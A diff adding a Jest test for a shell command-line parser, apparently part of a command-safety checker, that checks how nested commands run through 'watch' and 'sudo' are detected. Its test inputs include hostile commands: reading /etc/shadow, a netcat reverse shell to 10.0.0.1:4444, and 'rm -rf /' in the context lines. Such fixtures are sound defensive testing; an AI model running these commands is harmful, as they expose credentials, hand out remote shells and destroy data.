@@ -162,6 +162,23 @@ describe('parseCommandLine: sub-commands', () => {
     expect(programs(`docker ps -q`)).toEqual(['docker']);
   });
 
+  it('parses the command watch reruns through sh -c, or runs as given with -x', () => {
+    expect(programs(`watch -n 1 'id; cat /etc/shadow'`)).toEqual(['watch', 'id', 'cat']);
+    expect(programs(`watch --interval=5 -d ls -la /root`)).toEqual(['watch', 'ls']);
+    expect(programs(`sudo watch -q 3 -t "nc 10.0.0.1 4444 -e /bin/sh"`)).toEqual(['watch', 'nc']);
+    expect(programs(`watch -x sh -c 'reset; exec sh 1>&0 2>&0'`)).toEqual([
+      'watch',
+      'sh',
+      'reset',
+      'sh',
+    ]);
+    const nc = parseCommandLine(`sudo watch 'nc -e /bin/sh h 1'`).find((c) => c.program === 'nc');
+    expect(nc?.elevated).toBe(true);
+    expect(nc?.depth).toBe(1);
+    // Only options: nothing to rerun.
+    expect(programs(`watch --help`)).toEqual(['watch']);
+  });
+
   it('carries sudo elevation into the script it runs', () => {
     const rm = parseCommandLine(`sudo bash -c 'rm -rf /'`).find((c) => c.program === 'rm');
     expect(rm?.elevated).toBe(true);
